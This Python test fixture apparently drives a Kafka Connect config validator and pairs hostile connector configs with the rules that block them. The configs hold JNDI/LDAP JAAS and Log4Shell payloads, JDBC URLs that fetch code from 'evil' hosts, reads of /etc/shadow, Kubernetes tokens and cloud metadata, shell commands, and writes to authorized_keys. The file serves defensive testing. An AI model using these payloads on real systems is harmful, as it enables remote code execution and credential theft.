"""Configs that attack the worker, each with the rule that stops it. S5, S6 and S7 of the threats."""

from __future__ import annotations

JDBC = {"connector.class": "io.aiven.connect.jdbc.JdbcSourceConnector", "topic.prefix": "t", "mode": "bulk"}
SINK = {"connector.class": "io.aiven.connect.http.HttpSinkConnector", "topics": "t"}
JNDI_MODULE = "com.sun.security.auth.module.JndiLoginModule"
JNDI_JAAS = f'{JNDI_MODULE} required user.provider.url="ldap://evil/x" useFirstPass="true";'
PLAIN = "org.apache.kafka.common.security.plain.PlainLoginModule"
SPRING = "org.springframework.context.support.ClassPathXmlApplicationContext"
FILE_SOURCE = "org.apache.kafka.connect.file.FileStreamSourceConnector"


def jdbc(url: str, **more: str) -> dict[str, str]:
    return JDBC | {"connection.url": url} | more


# Id, config, rule. CVE numbers where the attack has one.
HOSTILE: list[tuple[str, dict[str, str], str]] = [
    # --- logins and clients (S5)
    ("jaas-jndi-override", SINK | {"consumer.override.sasl.jaas.config": JNDI_JAAS}, "P006"),  # CVE-2023-25194
    (
        "jaas-ldap-admin",
        SINK | {"admin.override.sasl.jaas.config": "com.sun.security.auth.module.LdapLoginModule required;"},
        "P006",
    ),  # CVE-2025-27818
    ("jaas-override-of-a-plain-login", SINK | {"producer.override.sasl.jaas.config": f"{PLAIN} required;"}, "P005"),
    (
        "jaas-second-module",
        SINK | {"database.history.producer.sasl.jaas.config": f"{PLAIN} required; {JNDI_JAAS}"},
        "P006",
    ),
    ("jaas-in-a-comment", SINK | {"source.cluster.sasl.jaas.config": f"/* {PLAIN} */ {JNDI_JAAS}"}, "P006"),
    (
        "jaas-behind-a-quotation",
        SINK | {"source.cluster.sasl.jaas.config": f'{PLAIN} required a="\\";"; {JNDI_JAAS}'},
        "P006",
    ),
    (
        "jaas-open-quotation",
        SINK | {"source.cluster.sasl.jaas.config": f'{PLAIN} required a="x; {JNDI_MODULE} required'},
        "P006",
    ),
    (
        "oauth-file-url",
        SINK | {"consumer.override.sasl.oauthbearer.token.endpoint.url": "file:///etc/passwd"},
        "P007",
    ),  # CVE-2025-27817
    ("oauth-jwks-ssrf", SINK | {"source.cluster.sasl.oauthbearer.jwks.endpoint.url": "http://10.0.0.1/"}, "P007"),
    (
        "oauth-assertion-file",
        SINK | {"source.cluster.sasl.oauthbearer.assertion.private.key.file": "/etc/shadow"},
        "P007",
    ),
    ("client-interceptor", SINK | {"consumer.override.interceptor.classes": "com.evil.Interceptor"}, "P008"),
    ("client-reporter", SINK | {"producer.override.metric.reporters": "com.evil.Reporter"}, "P005"),
    ("client-callback", SINK | {"x.sasl.client.callback.handler.class": "com.evil.Callback"}, "P008"),
    ("hibernate-pool", SINK | {"hibernate.connection.provider_class": "com.evil.Pool"}, "P008"),
    ("client-login-class", SINK | {"x.sasl.login.class": "com.evil.Login"}, "P008"),
    ("client-ssl-engine", SINK | {"source.cluster.ssl.engine.factory.class": "com.evil.Engine"}, "P008"),
    ("client-security-providers", SINK | {"security.providers": "com.evil.Provider"}, "P008"),
    (
        "client-second-assignor",
        SINK | {"consumer.override.partition.assignment.strategy": "org.apache.kafka.clients.consumer.A, com.evil.A"},
        "P008",
    ),
    ("client-partitioner", SINK | {"producer.override.partitioner.class": "com.evil.Partitioner"}, "P008"),
    ("client-bootstrap", SINK | {"producer.override.bootstrap.servers": "evil:9092"}, "P005"),
    ("client-truststore", SINK | {"consumer.override.ssl.truststore.location": "/etc/shadow"}, "P005"),
    ("client-protocol-downgrade", SINK | {"consumer.override.security.protocol": "PLAINTEXT"}, "P005"),
    ("client-override-in-capitals", SINK | {"Consumer.Override.bootstrap.servers": "evil:1"}, "P005"),
    ("kerberos-command", SINK | {"source.cluster.sasl.kerberos.kinit.cmd": "/bin/sh -c id"}, "P016"),
    # --- config providers (S5, CVE-2024-31141)
    ("providers-of-its-own", SINK | {"config.providers": "f"}, "P009"),
    ("providers-of-a-client", SINK | {"consumer.override.config.providers.f.class": "x.FileConfigProvider"}, "P009"),
    ("provider-any-file", SINK | {"topics": "${file:/etc/passwd:root}"}, "P011"),
    ("provider-climbs-out", SINK | {"x": "${file:/etc/kafka/../shadow:root}"}, "P011"),
    ("provider-relative", SINK | {"x": "${dir:../../root:id_rsa}"}, "P011"),
    (
        "provider-worker-file",
        SINK | {"x": "${file:/etc/kafka/connect-distributed.properties:sasl.jaas.config}"},
        "P011",
    ),
    ("provider-kubernetes-token", SINK | {"x": "${dir:/var/run/secrets/kubernetes.io/serviceaccount:token}"}, "P011"),
    ("provider-file-by-another-name", SINK | {"x": "${secrets:/etc/shadow:root}"}, "P011"),
    ("provider-environment", SINK | {"x": "a ${env:AWS_SECRET_ACCESS_KEY} b"}, "P012"),
    ("provider-unknown", SINK | {"x": "${myfiles:/etc/kafka/a:b}"}, "P010"),
    ("provider-class-from-a-file", {"connector.class": "${file:/etc/kafka/a.properties:class}"}, "P002"),
    ("converter-from-a-file", SINK | {"value.converter": "${file:/etc/kafka/a.properties:class}"}, "P003"),
    ("log4shell", SINK | {"x": "${jndi:ldap://evil/a}"}, "P015"),
    ("log4shell-nested", SINK | {"x": "${${lower:j}ndi:${lower:l}dap://evil/a}"}, "P010"),
    # --- JDBC URLs (S6)
    (
        "pg-socket-factory",
        jdbc(f"jdbc:postgresql://h/d?socketFactory={SPRING}&socketFactoryArg=http://evil/x.xml"),
        "P014",
    ),  # CVE-2022-21724
    ("pg-socket-factory-in-capitals", jdbc(f"jdbc:postgresql://h/d?SOCKETFACTORY={SPRING}"), "P014"),
    ("pg-socket-factory-encoded", jdbc(f"jdbc:postgresql://h/d?%73ocket%46actory={SPRING}"), "P014"),
    ("pg-socket-factory-encoded-twice", jdbc(f"jdbc:postgresql://h/d?%2573ocketFactory={SPRING}"), "P014"),
    ("pg-socket-factory-with-blanks", jdbc(f"  jdbc:postgresql://h/d?socketFactory ={SPRING}"), "P014"),
    ("pg-socket-factory-as-a-key", jdbc("jdbc:postgresql://h/d", **{"connection.socketFactory": SPRING}), "P014"),
    ("pg-log-file", jdbc("jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/var/www/x.jsp"), "P014"),
    ("pg-ssl-factory", jdbc(f"jdbc:postgresql://h/d?sslfactory={SPRING}"), "P014"),
    ("debezium-driver-key", JDBC | {"driver.socketFactory": SPRING}, "P014"),
    ("debezium-database-name", JDBC | {"database.dbname": f"d?socketFactory={SPRING}"}, "P014"),
    ("mysql-deserialize", jdbc("jdbc:mysql://h/d?autoDeserialize=true"), "P014"),
    ("mysql-deserialize-in-an-address", jdbc("jdbc:mysql://address=(host=h)(autoDeserialize=true)/d"), "P014"),
    (
        "mysql-interceptors",
        jdbc("jdbc:mysql://h/d?queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor"),
        "P014",
    ),
    ("mysql-local-file", jdbc("jdbc:mysql://h/d?allowLoadLocalInfile=true"), "P014"),
    ("mysql-local-file-as-a-key", JDBC | {"database.allowLoadLocalInfile": "true"}, "P014"),
    ("mariadb-local-file", jdbc("jdbc:mariadb://h/d?allowLocalInfile=true"), "P014"),
    ("sqlserver-trust-manager", jdbc("jdbc:sqlserver://h;trustManagerClass=com.evil.T;"), "P014"),
    ("db2-jndi", jdbc("jdbc:db2://h:1/d:clientRerouteServerListJNDIName=ldap://evil/x;"), "P014"),
    ("h2-init", jdbc("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"), "P013"),  # CVE-2022-23221
    ("h2-in-capitals-encoded", jdbc("JDBC:%48%32:mem:x"), "P013"),
    ("sqlite-resource", jdbc("jdbc:sqlite::resource:http://evil/x.db"), "P013"),  # CVE-2023-32697
    ("derby", jdbc("jdbc:derby:/tmp/x;create=true"), "P013"),
    ("hsqldb", jdbc("jdbc:hsqldb:file:/tmp/x"), "P013"),
    ("jdbc-driver-from-a-file", jdbc("jdbc:${file:/etc/kafka/a.properties:kind}://h/d"), "P013"),
    ("jdbc-wrapped", jdbc("jdbc:log4jdbc:h2:mem:x"), "P013"),
    ("oracle-ldap", jdbc("jdbc:oracle:thin:@ldap://evil:389/cn=x"), "P015"),
    ("jdbc-under-another-key", SINK | {"hibernate.connection.url": "jdbc:h2:mem:x"}, "P013"),
    # --- files, commands, addresses (S7)
    ("file-source", {"connector.class": FILE_SOURCE, "file": "/etc/shadow", "topic": "t"}, "P004"),
    ("file-source-alias", {"connector.class": "FileStreamSource", "topic": "t"}, "P004"),
    (
        "file-sink",
        {
            "connector.class": "org.apache.kafka.connect.file.FileStreamSinkConnector",
            "file": "/var/lib/kafka/.ssh/authorized_keys",
            "topics": "t",
        },
        "P004",
    ),
    ("file-schema-history", SINK | {"schema.history.internal.file.filename": "/var/lib/kafka/.bashrc"}, "P004"),
    ("file-url-registry", SINK | {"value.converter.schema.registry.url": "file:///etc/passwd"}, "P004"),
    ("file-jar-url", SINK | {"x": "jar:file:/tmp/evil.jar!/"}, "P004"),
    (
        "spooldir",
        {
            "connector.class": "com.github.jcustenborder.kafka.connect.spooldir.SpoolDirLineDelimitedSourceConnector",
            "input.path": "/etc",
        },
        "P004",
    ),
    (
        "script-filter",
        SINK
        | {
            "transforms": "f",
            "transforms.f.type": "io.debezium.transforms.Filter",
            "transforms.f.condition": "'id'.execute()",
        },
        "P016",
    ),
    ("script-router-alias", SINK | {"transforms.r.type": "ContentBasedRouter"}, "P016"),
    ("script-language", SINK | {"transforms.r.language": "jsr223.groovy"}, "P016"),
    (
        "camel-exec",
        {"connector.class": "org.apache.camel.kafkaconnector.exec.CamelExecSinkConnector", "topics": "t"},
        "P016",
    ),
    (
        "camel-exec-url",
        {
            "connector.class": "org.apache.camel.kafkaconnector.CamelSinkConnector",
            "camel.sink.url": "exec:sh?args=-c id",
        },
        "P016",
    ),
    ("jms-jndi", SINK | {"java.naming.provider.url": "ldap://evil"}, "P015"),
    ("rmi", SINK | {"x": "rmi://evil:1099/a"}, "P015"),
    ("cloud-metadata", SINK | {"http.url": "http://169.254.169.254/latest/meta-data/iam/"}, "P017"),
    ("cloud-metadata-bare", SINK | {"database.hostname": "metadata.google.internal"}, "P017"),
    ("cloud-metadata-as-a-number", SINK | {"http.url": "http://2852039166/"}, "P017"),
    ("invisible-key", SINK | {"topics\u202e": "t"}, "P019"),
    ("blank-key", SINK | {" consumer.override.bootstrap.servers": "evil:1"}, "P019"),
]
